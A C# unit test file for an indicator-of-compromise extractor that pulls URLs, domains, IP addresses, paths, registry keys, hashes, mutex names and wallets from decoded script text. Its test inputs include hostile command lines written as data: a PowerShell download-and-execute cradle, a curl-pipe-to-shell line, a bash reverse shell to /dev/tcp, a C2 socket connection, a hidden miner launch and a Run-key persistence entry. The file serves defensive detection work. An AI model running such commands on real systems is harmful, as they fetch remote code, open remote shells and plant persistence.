using System.Diagnostics;
using Stemma.Decoding.Indicators;

namespace Stemma.Decoding.Tests;

/// <summary>What in a layer can be searched for elsewhere, and what only looks so.</summary>
public sealed class IndicatorFinderTests
{
    private static List<string> Of(string text, IndicatorKind kind) =>
        [.. IndicatorFinder.Find([new Layer(0, -1, ScriptKind.Text, "", text)]).Where(i => i.Kind == kind).Select(i => i.Value)];

    [Theory]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://evil.example-site.com/a.ps1')", "http://evil.example-site.com/a.ps1")]
    [InlineData("iwr -useb https://198.51.100.7:8443/x?a=1&b=2 | iex", "https://198.51.100.7:8443/x?a=1&b=2")]
    [InlineData("see hxxps://bad[.]xyz/p", "https://bad.xyz/p")]
    [InlineData("(http://a.ru/b)", "http://a.ru/b")]
    [InlineData("curl http://a.ru/b;sh", "http://a.ru/b")]
    [InlineData("ftp://user:pw@files.host-one.net/up", "ftp://user:pw@files.host-one.net/up")]
    [InlineData("\"http://dc01/share.exe\"", "http://dc01/share.exe")]
    public void An_address_with_a_scheme_is_found_to_its_end(string text, string url) => Assert.Equal([url], Of(text, IndicatorKind.Url));

    [Theory]
    [InlineData("<a xmlns='http://schemas.microsoft.com/x'>")]
    [InlineData("http://www.w3.org/2001/XMLSchema")]
    [InlineData("https://go.microsoft.com/fwlink/?LinkId=1")]
    [InlineData("\"http://$ip:$port/\"")]
    [InlineData("http://127.0.0.1:8080/")]
    [InlineData("http://localhost/x")]
    public void Namespaces_help_pages_the_machine_itself_and_unknown_hosts_are_no_indicators(string text) =>
        Assert.Empty(IndicatorFinder.Find([new Layer(0, -1, ScriptKind.Text, "", text)]));

    [Theory]
    [InlineData("ping evil-host.ru", "evil-host.ru")]
    [InlineData("New-Object Net.Sockets.TCPClient('c2.badguys.top',443)", "c2.badguys.top")]
    [InlineData("contact bad[.]com now", "bad.com")]
    [InlineData("https://cdn.thing.io/x.js", "cdn.thing.io")]
    [InlineData("nslookup \"exfil.sh\"", "exfil.sh")]
    public void A_name_with_a_top_level_domain_is_a_domain(string text, string domain) => Assert.Equal([domain], Of(text, IndicatorKind.Domain));

    [Theory]
    [InlineData("(New-Object System.Net.WebClient)")]
    [InlineData("[System.IO.File]::ReadAllText('a.zip')")]
    [InlineData("foo.ps1 run.py lib.so install.sh readme.md report.zip")]
    [InlineData("$obj.name $_.Id this.name window.top document.location.host shell.run(x)")]
    [InlineData("C:\\Windows\\System32\\more.com")]
    [InlineData("chcp.com 65001")]
    [InlineData("Microsoft.PowerShell.Host")]
    [InlineData("ASP.NET and VB.NET")]
    public void Files_types_and_members_are_no_domains(string text) => Assert.Empty(Of(text, IndicatorKind.Domain));

    [Theory]
    [InlineData("connect 203.0.113.9 4444", "203.0.113.9")]
    [InlineData("'10.1.2.3'", "10.1.2.3")]
    [InlineData("bash -i >& /dev/tcp/192.0.2.44/4242", "192.0.2.44")]
    [InlineData("203[.]0[.]113[.]9", "203.0.113.9")]
    public void An_address_of_four_numbers_is_found(string text, string address) => Assert.Contains(address, Of(text, IndicatorKind.Ipv4));

    [Theory]
    [InlineData("Version=4.0.30.1, Culture=neutral")]
    [InlineData("Mozilla/5.0 Chrome/41.0.222.1")]
    [InlineData("1.3.6.1.4.1")]
    [InlineData("4.0.0.0")]
    [InlineData("255.255.255.0")]
    [InlineData("v1.2.3.4")]
    [InlineData("300.1.2.3")]
    public void Versions_masks_and_object_identifiers_are_no_addresses(string text) => Assert.Empty(Of(text, IndicatorKind.Ipv4));

    [Theory]
    [InlineData("ping 2001:db8::8a2e:370:7334", "2001:db8::8a2e:370:7334")]
    [InlineData("http://[2001:db8::1]/x", "2001:db8::1")]
    public void An_address_of_version_6_is_found(string text, string address) => Assert.Equal([address], Of(text, IndicatorKind.Ipv6));

    [Theory]
    [InlineData("12:34:56")]
    [InlineData("00:1A:2B:3C:4D:5E")]
    [InlineData("[Convert]::FromBase64String")]
    [InlineData("[X]::Add")]
    [InlineData("a::b::c")]
    public void Times_hardware_addresses_and_members_are_no_addresses(string text) => Assert.Empty(Of(text, IndicatorKind.Ipv6));

    [Theory]
    [InlineData(@"copy C:\Users\Public\a.exe", @"C:\Users\Public\a.exe")]
    [InlineData(@"'C:\Program Files\My App\b.dll'", @"C:\Program Files\My App\b.dll")]
    [InlineData(@"C:\Program Files (x86)\App\b.dll -x", @"C:\Program Files (x86)\App\b.dll")]
    [InlineData("\"C:\\\\Temp\\\\a.vbs\"", @"C:\Temp\a.vbs")]
    [InlineData(@"%APPDATA%\x\y.exe", @"%APPDATA%\x\y.exe")]
    [InlineData(@"$env:TEMP\z.ps1;", @"$env:TEMP\z.ps1")]
    [InlineData(@"net use \\10.0.0.5\c$\x", @"\\10.0.0.5\c$\x")]
    [InlineData("chmod +x /tmp/.x/miner && /tmp/.x/miner", "/tmp/.x/miner")]
    public void Paths_are_found_to_their_end(string text, string path) => Assert.Equal([path], Of(text, IndicatorKind.Path));

    [Theory]
    [InlineData(@"C:\Windows\System32\cmd.exe /c dir")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")]
    [InlineData("ls /usr/bin/env > /dev/null")]
    public void Programs_of_the_system_itself_are_no_indicators(string text) => Assert.Empty(Of(text, IndicatorKind.Path));

    [Theory]
    [InlineData(@"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a", @"HKCU\Software\Microsoft\Windows\CurrentVersion\Run")]
    [InlineData(@"'HKLM:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon'", @"HKLM:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon")]
    [InlineData("\"HKEY_CURRENT_USER\\\\Software\\\\X\"", @"HKEY_CURRENT_USER\Software\X")]
    public void Keys_of_the_registry_are_found(string text, string key) => Assert.Equal([key], Of(text, IndicatorKind.RegistryKey));

    [Theory]
    [InlineData("d41d8cd98f00b204e9800998ecf8427e")]
    [InlineData("da39a3ee5e6b4b0d3255bfef95601890afd80709")]
    [InlineData("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")]
    public void Digests_are_told_by_their_length(string hash) => Assert.Equal([hash], Of($"hash: {hash}", IndicatorKind.Hash));

    [Theory]
    [InlineData("$m = New-Object System.Threading.Mutex($true, 'Global\\abc-1')", "Global\\abc-1")]
    [InlineData("[Threading.Mutex]::new($false, \"qwe\")", "qwe")]
    [InlineData("kernel32.CreateMutexA(None, False, \"my_mutex\")", "my_mutex")]
    public void The_name_given_to_a_mutex_is_found(string text, string name) => Assert.Equal([name], Of(text, IndicatorKind.Mutex));

    [Theory]
    [InlineData("Contact: bad.guy@protonmail.com!", "bad.guy@protonmail.com")]
    [InlineData("x[at]y[.]org", "x@y.org")]
    public void Mail_addresses_are_found(string text, string address) => Assert.Equal([address], Of(text, IndicatorKind.Email));

    [Theory]
    [InlineData("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")]
    [InlineData("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4")]
    [InlineData("0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe")]
    public void Wallets_with_a_right_checksum_are_found(string address) => Assert.Equal([address], Of($"pay to {address}.", IndicatorKind.WalletAddress));

    [Theory]
    [InlineData("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb")]
    [InlineData("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5")]
    [InlineData("0x0000000000000000000000000000000000000001")]
    public void A_wrong_checksum_is_no_wallet(string address) => Assert.Empty(Of($"pay to {address}.", IndicatorKind.WalletAddress));

    [Fact]
    public void The_same_value_counts_where_it_stands_first()
    {
        Layer[] layers = [new(0, -1, ScriptKind.Text, "", "a hxxp://X[.]ru/1 b"), new(1, 0, ScriptKind.Text, "", "http://x.RU/1 and http://y.ru/2")];
        IReadOnlyList<Indicator> found = IndicatorFinder.Find(layers);
        Assert.Equal(["http://X.ru/1", "X.ru", "http://y.ru/2", "y.ru"], found.Select(i => i.Value));
        Assert.Equal([0, 0, 1, 1], found.Select(i => i.Layer));
        Assert.Equal("hxxp://X[.]ru/1", layers[0].Text.Substring(found[0].Start, found[0].Length));
        Assert.Equal("X[.]ru", layers[0].Text.Substring(found[1].Start, found[1].Length));
    }

    [Theory]
    [InlineData("a.")]
    [InlineData(":")]
    [InlineData("\\\\")]
    [InlineData("http://")]
    [InlineData("[.]")]
    [InlineData("%a%\\")]
    [InlineData("C:\\")]
    [InlineData("@a")]
    [InlineData("mutex(")]
    [InlineData("HKLM\\")]
    [InlineData("'C:\\a b ")]
    [InlineData("1.2.3.4")]
    [InlineData("1:")]
    public void Hostile_repetition_is_read_in_linear_time(string part)
    {
        string text = string.Concat(Enumerable.Repeat(part, 1_000_000 / part.Length));
        var watch = Stopwatch.StartNew();
        IndicatorFinder.Find([new Layer(0, -1, ScriptKind.Text, "", text)]);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(2), $"{watch.Elapsed}");
    }
}
